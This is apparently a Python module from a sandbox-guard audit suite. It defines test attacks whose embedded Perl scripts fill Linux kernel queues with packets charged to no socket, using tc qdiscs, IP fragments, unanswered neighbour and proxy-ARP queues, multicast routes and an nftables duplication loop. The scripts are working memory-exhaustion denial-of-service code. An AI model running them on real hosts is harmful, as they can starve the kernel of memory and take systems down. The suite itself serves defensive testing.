"""Kernel memory that no memory limit counts: packets in queues that belong to no socket."""

from rigs.audit.attack import Attack
from rigs.audit.uncharged_memory import ENOUGH, MOST, held_in_the_kernel
from rigs.audit.walls import PROXIED, SEARCHES

# A sender of frames into v0, which arrive at v1 and are forwarded. They have no socket any more.
FRAMES = r"""
use Socket qw(:all);
system("ip link add v0 mtu 65000 type veth peer name v1 mtu 65000; ip link set v0 up; ip link set v1 up;"
    . "ip addr add 10.9.0.1/24 dev v1; cd /proc/sys/net/ipv4; echo 1 >ip_forward; echo 0 >conf/all/rp_filter;"
    . "echo 0 >conf/v1/rp_filter");
my ($leaves, $arrives) = map { (`ip -o link show $_` =~ /^(\d+)/)[0] } qw(v0 v1);
my ($mac) = `ip -o link show v1` =~ /ether (\S+)/;
$mac = pack("H12", $mac =~ s/://gr);
socket(my $out, 17, 3, 0);
sub frame {
    my ($to_mac, $to, $size, $number) = @_;
    my $head = pack("CCnnnCCna4a4", 0x45, 0, $size + 20, $number, 0, 64, 17, 0, pack("C4", 10, 9, 0, 2), $to);
    my $sum = 0;
    $sum += $_ for unpack("n10", $head);
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    substr($head, 10, 2) = pack("n", ~$sum & 0xffff);
    my $there = pack("SnlSCCa8", 17, 0x800, $leaves, 0, 0, 6, $to_mac);
    return !!send($out, $to_mac . $mac . pack("n", 0x800) . $head . "x" x $size, 0, $there);
}
"""


# Frames sent into v0 arrive at v1 and are forwarded to neighbours behind w0 that nobody has. They have no socket any more.
FORWARDED = r"""
system("for n in v w; do ip link add \${n}0 mtu 65000 type veth peer name \${n}1 mtu 65000; ip link set \${n}0 up;"
    . "ip link set \${n}1 up; done; ip addr add 10.9.0.1/24 dev v1; ip addr add 10.8.0.1/16 dev w0;"
    . "cd /proc/sys/net/ipv4; echo 1 >ip_forward; echo 0 >conf/all/rp_filter; echo 0 >conf/v1/rp_filter;"
    . "ip ntable change name arp_cache dev w0 queue 300000 retrans 4000");
my ($index) = `ip -o link show v0` =~ /^(\d+)/;
my ($mac) = `ip -o link show v1` =~ /ether (\S+)/;
$mac = pack("H12", $mac =~ s/://gr);
socket(my $out, 17, 3, 0);
my $there = pack("SnlSCCa8", 17, 0x800, $index, 0, 0, 6, $mac);
my $sent = 0;
for my $host (256 .. 1755) {
    my $head = pack("CCnnnCCna4CCn", 0x45, 0, 50020, $host, 0, 64, 17, 0, pack("C4", 10, 9, 0, 2), 10, 8, $host);
    my $sum = 0;
    $sum += $_ for unpack("n10", $head);
    $sum = ($sum & 0xffff) + ($sum >> 16) while $sum >> 16;
    substr($head, 10, 2) = pack("n", ~$sum & 0xffff);
    $sent += !!send($out, $mac . $mac . pack("n", 0x800) . $head . "x" x 50000, 0, $there) for 1 .. 4;
}
"""


# Asks for proxied neighbours, to 12 interfaces that answer after an hour. Copies that nftables makes are charged to no socket.
PROXIED_ASKS = r"""
open(my $rules, "|-", "sh");
print $rules "ip link add w0 type veth peer name w1; ip link set w0 up; ip addr add 10.8.0.1/16 dev w0; cd /proc/sys/net/ipv4\n";
print $rules "echo 1 >ip_forward; echo 0 >conf/all/rp_filter; nft add table netdev t\n";
print $rules "ip link add z0 mtu 65000 type veth peer name z1 mtu 65000; ip link set z0 up; ip link set z1 up\n";
print $rules "nft 'add chain netdev t c { type filter hook ingress device z1 priority 0; }'\n";
print $rules <<"END" for map { sprintf "%02d", $_ } 1 .. 12;
ip link add a$_ mtu 65000 type veth peer name b$_ mtu 65000; ip link set a$_ up; ip link set b$_ up
ip addr add 10.9.@{[$_ + 0]}.1/24 dev b$_; echo 1 >conf/b$_/proxy_arp; echo 0 >conf/b$_/rp_filter
echo 360000 >neigh/b$_/proxy_delay
nft add rule netdev t c ether daddr 03:00:00:00:00:$_ dup to a$_ drop
END
close $rules;
my ($index) = `ip -o link show z0` =~ /^(\d+)/;
socket(my $out, 17, 3, 0);
my $sent = 0;
for my $link (1 .. 12) {
    my $mac = pack("C5H2", 3, 0, 0, 0, 0, sprintf "%02d", $link);
    my $there = pack("SnlSCCa8", 17, 0x806, $index, 0, 0, 6, $mac);
    for my $host (1 .. 65) {
        my $ask = pack("nnCCna6C4x6C4", 1, 0x800, 6, 4, 1, $mac, 10, 9, $link, 2, 10, 8, 1, $host);
        $sent += !!send($out, $mac . $mac . pack("n", 0x806) . $ask . "x" x 60000, 0, $there);
    }
}
system("for n in /proc/sys/net/ipv4/neigh/b*; do echo 80 >\$n/proxy_delay; done");
my ($waits, $most) = (0, 0);
for (1 .. 60) {  # the guard looks twice a second
    ($waits) = map { $_ >> 3 } `ip -s ntable show name arp_cache` =~ /proxy_qlen (\d+)/;  # 128 KB each
    $most = $waits if $waits > $most;
    last if $waits <= 8;
    select(undef, undef, undef, 0.05);
}
my $said = "$sent packets sent, $most MB at first, $waits MB in the end";
$waits > 8 ? through($said) : refused($said);
"""


def waiting(interface: str, limit: str, each: int) -> str:
    """The end of an attack that has filled queues for neighbours with EACH bytes: it looks for three seconds whether they stay."""
    return f"""
my ($waits, $most) = (0, 0);
for (1 .. 60) {{  # the guard looks twice a second
    my $now = () = `ip neigh show dev {interface}` =~ /INCOMPLETE/g;
    open(my $limit, "<", "/proc/sys/net/{limit}/unres_qlen_bytes");
    $waits = ($now * (<$limit> > 69632 ? {each} : 69632)) >> 20;
    $most = $waits if $waits > $most;
    last if $waits <= {MOST};
    select(undef, undef, undef, 0.05);
}}
my $said = "$sent packets sent, $most MB at first, $waits MB in the end";
$waits > {MOST} ? through($said) : refused($said);
"""


ATTACKS = (
    held_in_the_kernel(
        "M20",
        "packets in a queue of any length (tc tbf), with their sockets closed",
        f"""
use Socket qw(:all);
system("ip link set eth0 mtu 65000; tc qdisc replace dev eth0 root tbf rate 8kbit burst 70000 limit 2000000000;"
    . "ip neigh replace 2001:db8:1::2 lladdr 02:00:00:00:00:02 dev eth0");
my ($piece, $there) = ("x" x 60000, pack_sockaddr_in6(9, inet_pton(AF_INET6, "2001:db8:1::2")));
for (1 .. {ENOUGH} * 6) {{
    socket(my $out, AF_INET6, SOCK_DGRAM, 0) or last;
    $held += (send($out, $piece, 0, $there) // 0) for 1 .. 3;
}}
""",
    ),
    held_in_the_kernel(
        "M21",
        "any number of fragments whose packets never become complete (ipfrag_high_thresh)",
        f"""
use Socket qw(:all);
system("ip link set lo up mtu 65535; echo 2000000000 >/proc/sys/net/ipv4/ipfrag_high_thresh");
my ($piece, $there) = ("x" x 60000, pack_sockaddr_in(0, INADDR_LOOPBACK));
socket(my $out, AF_INET, SOCK_RAW, 255);
for my $number (1 .. {ENOUGH} * 18) {{
    my $head = pack("CCnnnCCna4a4", 0x45, 0, 0, $number, 0x2000, 64, 17, 0, INADDR_LOOPBACK, INADDR_LOOPBACK);
    $held += send($out, $head . $piece, 0, $there) // 0;
}}
""",
    ),
    Attack(
        id="M27",
        title="packets that wait for one neighbour that nobody answers for (unres_qlen_bytes, retrans_time_ms)",
        wall="the guard shortens such a queue and lets the search fail",
        perl=FORWARDED.replace("256 .. 1755", "256 .. 256")
        .replace("1 .. 4;", "1 .. 1500;")
        .replace("retrans 4000", "retrans 3600000")
        + waiting("w0", "ipv4/neigh/w0", 1500 * 65_792),
        control=SEARCHES,
    ),
    Attack(
        id="M30",
        title="packets that are forwarded to 1,500 neighbours that nobody answers for, in queues made longer by netlink",
        wall="the guard shortens such queues, and lets the searches fail where the lab holds too much",
        perl=FORWARDED + waiting("w0", "ipv4/neigh/w0", 4 * 65_792),
        control=SEARCHES,
    ),
    held_in_the_kernel(
        "M34",
        "a packet that goes in a circle, and leaves a copy in a queue at each round",
        r"""
system("for n in a b; do ip link add \${n}0 type veth peer name \${n}1; ip link set \${n}0 up; ip link set \${n}1 up; done;"
    . "ip addr add 10.9.9.1/24 dev a0; ip neigh add 10.9.9.9 lladdr 02:00:00:00:00:09 dev a0;"
    . "tc qdisc add dev b0 root handle 1: htb default 10; tc class add dev b0 parent 1: classid 1:10 htb rate 8bit;"
    . "tc qdisc add dev b0 parent 1:10 handle 10: pfifo limit 100000; nft add table netdev t;"
    . "nft 'add chain netdev t c { type filter hook ingress device a1 priority 0; }';"
    . "nft add rule netdev t c dup to b0; nft add rule netdev t c fwd to a0");
use Socket;
socket(my $out, AF_INET, SOCK_DGRAM, 0);
send($out, "x", 0, sockaddr_in(9, inet_aton("10.9.9.9")));
for (1 .. 50) {
    select(undef, undef, undef, 0.1);
    my ($packets) = `tc -s qdisc show dev b0` =~ /backlog \S+ (\d+)p/;
    $held = 1024 * ($packets // 0);
    last if $held > 80 << 20;
}
""",
        wall="the guard weighs a lab whose packets move although it uses no CPU",
    ),
    Attack(
        id="M38",
        title="packets that ask for proxied neighbours, with a delay of an hour that is set back at once",
        wall="the guard empties the queue that they wait in",
        perl=PROXIED_ASKS,
        control=PROXIED,
    ),
    held_in_the_kernel(
        "M47",
        "packets in a queue that are taken for one byte each (tc stab)",
        FRAMES
        + r"""
system("ip link add w0 mtu 65000 type veth peer name w1 mtu 65000; ip link set w0 up; ip link set w1 up;"
    . "ip addr add 10.8.0.1/16 dev w0; ip neigh add 10.8.0.2 lladdr 02:00:00:00:00:02 dev w0;"
    . "tc qdisc replace dev w0 root handle 1: stab overhead -64900 htb default 10;"
    . "tc class add dev w0 parent 1: classid 1:10 htb rate 8bit burst 1 cburst 1;"
    . "tc qdisc add dev w0 parent 1:10 handle 10: pfifo limit 1000000");
$held += 60_000 * frame($mac, pack("C4", 10, 8, 0, 2), 60_000, $_) for 1 .. 2000;
""",
    ),
    held_in_the_kernel(
        "M48",
        "packets of multicast groups for which no route is found",
        FRAMES
        + r"""
socket(my $routing, AF_INET, SOCK_RAW, 2);
setsockopt($routing, 0, 200, pack("l", 1));  # MRT_INIT, MRT_ADD_VIF
setsockopt($routing, 0, 202, pack("SCCLla4", 0, 8, 1, 0, $arrives, "\0\0\0\0"));
for my $group (1 .. 500) {
    $held += 50_000 * frame(pack("C6", 1, 0, 0x5e, 1, 1, 1), pack("CCn", 239, 1, $group), 50_000, $_) for 1 .. 4;
    1 while defined recv($routing, my $told, 4096, 0x40);
}
""",
    ),
)
